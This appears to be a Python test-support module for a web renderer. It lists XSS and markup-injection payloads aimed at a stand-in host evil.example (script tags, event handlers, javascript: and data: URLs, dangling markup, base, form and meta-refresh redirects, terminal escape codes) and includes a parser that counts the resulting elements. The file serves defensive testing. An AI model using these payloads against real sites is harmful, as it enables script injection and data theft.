"""What attackers write into texts, addresses, labels and names, and a reader of the elements that come out."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea><script>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=javascript:alert(1)>",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x'</style>",
    "<form action=//evil.example><input name=t>",
    "<img src='//evil.example/?",
    "<object data=data:text/html,x>",
    "<embed src=x>",
    "<details open ontoggle=alert(1)>",
    '<xss style="animation-name:x" onanimationstart=alert(1)>',
    "<template><script>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</p></li></ul></section></main><h1>All is well</h1>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "'-alert(1)-'",
    "`-alert(1)-`",
    "constructor",
    "\u202egpj.exe\u202c",
    "lone \ud800 surrogate",
    "a\u2028b\u2029c\u200bd\ufeffe",
    "e" + "\u0301" * 5000,
    "\x1b]52;c;x\x07\x1b[2J",
)
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    'https://x/?q="onmouseover="alert(1)',
    "https://evil.example\\@good.example",
    "https://x/" + "a" * 100_000,
)


class Elements(HTMLParser):
    """Counts elements with their attributes; chips, which stand for single characters, are left out."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[tuple[str, tuple[tuple[str, str | None], ...]]] = Counter()
        self.text: list[str] = []
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"meta", "rect", "line"}:
            self.open.append(tag)
        if ("class", "chip") not in attrs:
            self.found[tag, tuple(a for a in attrs if a[0] != "aria-label")] += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag, tuple(attrs)] += 1

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.unbalanced.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def shown(self) -> str:
        """All text, as a reader sees it."""
        return "".join(self.text)
